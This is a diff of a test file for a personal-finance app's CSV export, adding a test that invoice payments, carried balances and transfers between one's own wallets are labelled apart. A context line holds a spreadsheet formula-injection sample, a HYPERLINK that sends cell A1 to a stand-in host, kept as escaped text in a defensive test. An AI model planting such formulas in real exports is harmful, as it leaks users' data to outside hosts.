@@ -40,3 +40,77 @@ it('exports user-written names as text, never as formulas, and amounts as number
     `10/11/2026;"'=HYPERLINK(""https://golpe.example/?d=""&A1,""Clique"")";Aluguel;Despesa;-10,00;"'@SUM(1+1)";Sim`,
   );
 });
+
+it("names invoice payments, their carry and moves between one's own wallets apart, so 'Despesa' adds up to the screens (audit O6)", async () => {
+  const account = await createAccount(server);
+  const api = client(server, account.token);
+  const wallet = (body: object) => data<{ _id: string }>(api('POST', '/payments', body), 201);
+  const checking = (await wallet({ name: 'Itaú', type: 'debit', accountType: 'Conta corrente', value: 3000 }))
+    ._id;
+  const savings = (await wallet({ name: 'Poupança', type: 'debit', accountType: 'Poupança', value: 0 }))._id;
+  const card = (
+    await wallet({ name: 'Nubank', type: 'credit', flag: 'Visa', invoiceCloseOn: 5, paid: 12, limit: 5000 })
+  )._id;
+  const market = await categoryId(api, 'Supermercado');
+  await data(
+    api('POST', '/transactions', {
+      name: 'Mercado',
+      value: 100,
+      date: '2026-10-10',
+      transactionType: 'expenses',
+      category: market,
+      payment: card,
+    }),
+    201,
+  );
+  const invoices = await data<{ items: Array<{ _id: string; creditCardId: string; closeOnDay: string }> }>(
+    api('GET', '/invoices?month=11&year=2026'),
+  );
+  const invoice = invoices.items.find((item) => item.creditCardId === card);
+  await data(
+    api('POST', '/invoices', {
+      name: 'Pagamento de fatura',
+      value: 60,
+      date: invoice?.closeOnDay,
+      paid: true,
+      transactionType: 'expenses',
+      payment: checking,
+      paymentInvoiceReferenceId: invoice?._id,
+    }),
+    201,
+  );
+  await data(
+    api('POST', '/transactions', {
+      name: 'Transferência',
+      value: 200,
+      date: '2026-11-06',
+      paid: true,
+      transactionType: 'revenues',
+      bankingOperationType: 'transfer',
+      bankingOperationPayment: checking,
+      payment: savings,
+    }),
+    201,
+  );
+
+  const csv = await server.app.inject({
+    method: 'POST',
+    url: '/api/users/export_user_story',
+    headers: bearer(account.token),
+  });
+  const rows = csv.body
+    .split('\r\n')
+    .slice(1)
+    .filter(Boolean)
+    .map((line) => line.split(';'));
+  const typed = (type: string) => rows.filter((row) => row[3] === type).map((row) => [row[1], row[4]]);
+  // The purchase is the only expense: the screens count it once, on the card.
+  expect(typed('Despesa')).toEqual([['Mercado', '-100,00']]);
+  expect(typed('Receita')).toEqual([]);
+  expect(typed('Pagamento de fatura')).toEqual([['Pagamento de fatura', '-60,00']]);
+  expect(typed('Saldo de fatura anterior')).toEqual([['Residual da fatura anterior', '-40,00']]);
+  expect(typed('Transferência')).toEqual([
+    ['Transferência', '-200,00'],
+    ['Transferência', '200,00'],
+  ]);
+});
